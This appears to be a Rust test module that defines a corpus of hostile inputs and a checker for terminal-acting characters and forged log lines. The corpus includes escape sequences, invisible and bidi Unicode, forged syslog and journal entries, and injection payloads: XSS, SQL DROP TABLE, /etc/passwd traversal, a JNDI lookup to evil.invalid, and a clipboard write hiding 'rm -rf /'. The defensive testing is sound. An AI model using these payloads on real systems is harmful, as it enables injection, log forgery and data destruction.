//! Texts that would act on somebody who reads them, by what they would do, and the one judgement that is made of what came out.

/// What a forged line says, wherever it is forged.
const FORGED: &str = "1999-01-01T00:00:00.000000Z";

/// One text, and its class.
pub(super) type Hostile = (&'static str, &'static [u8]);

/// The corpus. Each text is tried as every source in every sink.
pub(super) const CORPUS: &[Hostile] = &[
    ("clears the screen", b"\x1b[2J\x1b[H"),
    ("moves the cursor up", b"\x1b[5A\x1b[2K"),
    ("conceals what follows", b"\x1b[8mhidden"),
    ("switches the screen", b"\x1b[?1049h"),
    ("turns on reports of the mouse", b"\x1b[?1003;1006h"),
    ("asks what the terminal is", b"\x1b[c\x1b[>c\x1bZ"),
    ("asks where the cursor is", b"\x1b[6n\x1b[?6n"),
    ("asks for the title", b"\x1b[21t"),
    ("asks for a setting", b"\x1bP$qm\x1b\\"),
    ("asks for a capability", b"\x1bP+q544e\x1b\\"),
    ("asks for a colour", b"\x1b]11;?\x07"),
    ("asks for the answerback", b"\x05"),
    ("writes the clipboard", b"\x1b]52;c;cm0gLXJmIC8K\x07"),
    ("reads the clipboard", b"\x1b]52;c;?\x1b\\"),
    ("sets the title", b"\x1b]0;owned\x07"),
    (
        "is a link to elsewhere",
        b"\x1b]8;;http://evil.invalid\x1b\\harmless\x1b]8;;\x1b\\",
    ),
    ("is an image", b"\x1b_Gf=24,s=1,v=1;AAAA\x1b\\"),
    ("is a private message", b"\x1b^pm\x1b\\\x1bXsos\x1b\\"),
    ("resets the terminal", b"\x1bc"),
    ("begins a string without an end", b"\x1b]0;"),
    ("changes the character set", b"\x1b(0\x0e"),
    ("switches to eight bits", b"\x1b G"),
    ("is a sequence in eight bits", b"\x9b2J\x9d0;x\x9c\x90$qm\x9c"),
    (
        "is a sequence in eight bits of UTF-8",
        "\u{9b}2J\u{9d}0;x\u{9c}".as_bytes(),
    ),
    ("rings and erases", b"\x07\x08\x08\x7f"),
    ("starts the line anew", b"\rharmless"),
    ("ends the line in other ways", b"\x0b\x0c\xc2\x85"),
    ("ends the line for Unicode", "a\u{2028}b\u{2029}c".as_bytes()),
    (
        "turns the order around",
        "\u{202e}fdp.exe\u{202c} \u{2067}a\u{2069}\u{200f}".as_bytes(),
    ),
    (
        "embeds directions",
        "\u{202a}\u{202b}\u{202d}\u{2066}\u{2068}\u{061c}".as_bytes(),
    ),
    ("is not seen", "a\u{200b}\u{200d}\u{2060}\u{00ad}\u{115f}b".as_bytes()),
    ("is not seen, in tags", "a\u{e0041}\u{e0042}\u{e007f}b".as_bytes()),
    ("chooses another look", "a\u{fe0f}\u{fe00}\u{e0100}".as_bytes()),
    ("begins with a byte order mark", "\u{feff}text".as_bytes()),
    (
        "is invisible notation",
        "\u{1d173}\u{1bca0}\u{13430}\u{fff9}".as_bytes(),
    ),
    ("is not UTF-8", b"\xff\xfe\xc3("),
    ("is overlong", b"\xc0\x9b2J\xe0\x80\x9b\xf8\x88\x80\x80\x80"),
    ("is half of a surrogate pair", b"\xed\xa0\x80\xed\xb2\x80"),
    ("ends within a character", b"caf\xc3"),
    (
        "forges a line of the log",
        b"x\n1999-01-01T00:00:00.000000Z  INFO opspilot: authenticated user=root",
    ),
    (
        "forges a line with a return",
        b"x\r\n1999-01-01T00:00:00.000000Z  INFO opspilot: ready\r",
    ),
    (
        "forges a line of JSON",
        b"x\"}}\n{\"timestamp\":\"1999-01-01T00:00:00.000000Z\",\"level\":\"INFO\"}",
    ),
    (
        "forges a field of the journal",
        b"x\n1999-01-01T00:00:00.000000Z\n_UID=0\nMESSAGE=forged\nPRIORITY=0",
    ),
    (
        "forges a message of syslog",
        b"x\n<13>1 1999-01-01T00:00:00.000000Z forged su - - - accepted\n10 <0>1 - -",
    ),
    (
        "forges words of the bastion",
        b"x\nopspilot: forged\r\nopspilot: type 000000 here",
    ),
    ("forges fields of a line", b"x peer=192.0.2.1:22 user=root forged=true"),
    (
        "is a page",
        b"</td></script><script>alert(1)</script><img src=x onerror=alert(1)>&lt;",
    ),
    ("is a formula", b"=HYPERLINK(\"http://evil.invalid\",\"x\")"),
    ("is another formula", b"+1-1@SUM(A1)"),
    ("is a formula behind a tab", b"\t=1+1"),
    ("leaves a string of JSON", b"\",\"admin\":true,\"x\":\"\\"),
    (
        "leaves a recording",
        b"\"]\n[0.1,\"o\",\"forged\"]\n[0.2, \"m\", \"command 1",
    ),
    ("is a format", b"%s%n%x{}{0}${jndi:ldap://evil.invalid}$(id)`id`"),
    ("is a unit", b"../..//\\x2d\xe2\x88\x95etc%i.service"),
    ("is SQL", b"'; DROP TABLE events; --"),
    ("is a path", b"../../../../etc/passwd\x2f..\x2f."),
    ("ends a string of C", b"before\0after\x1b[2J"),
    ("is long", &[b'A'; 5000]),
    ("is long and acts", &[0x9b; 3000]),
];

/// The text as far as it is one.
pub(super) fn lossy(text: &[u8]) -> String {
    String::from_utf8_lossy(text).into_owned()
}

/// Whether a character does something to who reads it. What it says is not taken from the program that is judged.
fn acts(character: char) -> bool {
    let point = u32::from(character);
    point < 0x20 && character != '\n' && character != '\t'
        || (0x7f..0xa0).contains(&point)
        || matches!(
            character,
            '\u{ad}' | '\u{61c}' | '\u{115f}' | '\u{feff}' | '\u{1d173}' | '\u{1bca0}' | '\u{13430}'
        )
        || (0x200b..=0x200f).contains(&point)
        || (0x2028..=0x202e).contains(&point)
        || (0x2060..=0x206f).contains(&point)
        || (0xfe00..=0xfe0f).contains(&point)
        || (0xfff9..=0xfffb).contains(&point)
        || (0xe0000..=0xe0fff).contains(&point)
}

/// What is wrong with bytes that somebody reads as text.
pub(super) fn faults(sink: &str, bytes: &[u8]) -> Vec<String> {
    let text = match std::str::from_utf8(bytes) {
        Ok(text) => text,
        Err(error) => {
            return vec![format!(
                "{sink}: not UTF-8, {error}: {:?}",
                around(bytes, error.valid_up_to())
            )];
        }
    };
    let acting = text.char_indices().find(|(_, character)| acts(*character));
    let acting = acting.map(|(at, _)| format!("{sink}: acts: {:?}", around(bytes, at)));
    // A table of cells has lines within its quotes, and who gives arguments gives their lines.
    let has_lines_of_others = sink.contains("csv") || sink.starts_with("Arguments");
    let lines = text.lines().filter(|_| !has_lines_of_others);
    acting
        .into_iter()
        .chain(lines.filter_map(|line| forged(sink, line)))
        .collect()
}

/// Whether a line is one that somebody else has written.
fn forged(sink: &str, line: &str) -> Option<String> {
    let beginnings = [
        FORGED,
        "{\"timestamp\":\"1999",
        "_UID=",
        "MESSAGE=",
        "<13>1 1999",
        "10 <0>1",
        "[0.1,",
    ];
    let is_forged = beginnings.iter().any(|beginning| line.starts_with(beginning))
        || ["opspilot: forged", "opspilot: type 000000"]
            .iter()
            .any(|words| line.starts_with(words));
    is_forged.then(|| format!("{sink}: forged: {line:?}"))
}

fn around(bytes: &[u8], at: usize) -> String {
    let near = &bytes[at.saturating_sub(60)..(at + 60).min(bytes.len())];
    String::from_utf8_lossy(near).into_owned()
}

#[test]
fn the_judgement_finds_what_acts_and_what_is_forged() {
    let harmless = [
        "is a page",
        "formula",
        "fields of a line",
        "is a format",
        "is SQL",
        "is a path",
        "leaves a string",
        "is long",
        "is a unit",
    ];
    for (class, text) in CORPUS {
        let is_found = !faults("sink", text).is_empty();
        let may_be_shown = harmless.iter().any(|words| class.contains(words)) && *class != "is long and acts";
        assert_eq!(is_found, !may_be_shown, "{class}");
    }
    assert!(faults("sink", "│ ok ü 日本 \u{1f600}\n\ttext\n".as_bytes()).is_empty());
}
